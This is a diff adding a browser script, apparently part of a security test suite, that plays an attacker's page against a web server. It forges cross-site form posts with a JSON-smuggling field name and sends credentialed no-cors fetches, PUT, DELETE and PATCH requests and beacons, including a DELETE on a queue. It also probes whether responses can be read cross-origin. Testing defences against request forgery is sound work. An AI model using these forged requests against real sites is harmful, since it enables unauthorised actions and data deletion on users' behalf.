@@ -1,0 +1,91 @@
+// The script of the attacker's pages. It runs in the browser, where `attack` is global.
+
+const attack = {
+  /** Sends a form to each path, each into a frame of its own, and waits until all frames have loaded. */
+  async sendForms({ origin, paths, enctype }) {
+    await Promise.all(
+      paths.map((path, i) => {
+        const frame = document.createElement('iframe');
+        frame.name = `frame-${i}`;
+        document.body.append(frame);
+        const form = document.createElement('form');
+        Object.assign(form, { method: 'post', action: origin + path, target: frame.name, enctype });
+        const field = document.createElement('input');
+        Object.assign(field, { name: '{"payload":{"forged":true},"x":"', value: '"}' });
+        form.append(field);
+        document.body.append(form);
+        const loaded = new Promise((resolve) => {
+          frame.addEventListener('load', resolve);
+        });
+        form.submit();
+        return loaded;
+      }),
+    );
+  },
+
+  /** Tries every kind of request that a page can send to another site. */
+  async sendEverything({ origin, paths }) {
+    const body = '{"payload":{"forged":true}}';
+    // A page cannot read the answers, but the requests arrive.
+    const send = (path, request) => fetch(origin + path, request).catch(() => null);
+    for (const path of paths) {
+      for (const credentials of ['omit', 'include']) {
+        await send(path, { method: 'POST', mode: 'no-cors', credentials });
+        await send(path, { method: 'POST', mode: 'no-cors', credentials, body });
+      }
+      for (const method of ['POST', 'PUT', 'DELETE', 'PATCH']) {
+        await send(path, { method, headers: { 'Content-Type': 'application/json' }, body });
+      }
+      navigator.sendBeacon(origin + path, body);
+    }
+    await send('/queues/default', { method: 'DELETE' });
+  },
+
+  /** Returns how each path could be read. */
+  async readEverything({ origin, paths }) {
+    const found = [];
+    for (const path of paths) {
+      for (const mode of ['cors', 'no-cors']) {
+        const text = await fetch(origin + path, { mode }).then(
+          (response) => response.text(),
+          () => '',
+        );
+        if (text !== '') found.push(`${path} by fetch in mode ${mode}`);
+      }
+      for (const kind of ['script', 'img']) {
+        const element = document.createElement(kind);
+        const loaded = await new Promise((resolve) => {
+          element.addEventListener('load', () => resolve(true));
+          element.addEventListener('error', () => resolve(false));
+          element.src = origin + path;
+          document.body.append(element);
+        });
+        if (loaded) found.push(`${path} as ${kind}`);
+      }
+    }
+    return found;
+  },
+
+  async openFrame({ url }) {
+    await new Promise((resolve) => {
+      const frame = document.createElement('iframe');
+      frame.addEventListener('load', resolve);
+      frame.src = url;
+      document.body.append(frame);
+    });
+  },
+
+  /** Sends requests to the server of the page itself. Returns method and path, status and text of each answer. */
+  async askOwnServer({ requests }) {
+    return Promise.all(
+      requests.map(async ([method, path]) => {
+        const headers = { 'Content-Type': 'application/json' };
+        const body = method === 'POST' ? '{"payload":{"forged":true}}' : undefined;
+        const response = await fetch(path, { method, headers, body });
+        return [`${method} ${path}`, response.status, await response.text()];
+      }),
+    );
+  },
+};
+
+globalThis.attack = attack;
